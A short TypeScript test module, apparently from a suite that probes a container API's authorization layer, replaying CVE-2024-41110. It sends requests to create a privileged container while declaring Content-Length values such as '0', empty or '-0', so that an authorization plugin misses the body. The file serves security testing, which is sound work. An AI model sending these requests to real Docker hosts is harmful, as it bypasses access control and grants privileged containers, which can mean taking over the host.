import { type Attempt, container, each, request, v } from './book';

export const attempt: Attempt = {
  title: 'say that there is no body, and send one',
  source: 'CVE-2024-41110: with `Content-Length: 0` the authorization plugin saw no body',
  async try(world) {
    const body = JSON.stringify(container(world, { HostConfig: { Privileged: true } }));
    return each(['0', '00', '', '-0', '+0', '2'], (length) =>
      world.send(request(`POST ${v}/containers/create HTTP/1.1`, [`Host: ${world.address}`, 'Content-Type: application/json',
        `Content-Length: ${length}`, 'Connection: close'], body)));
  },
};
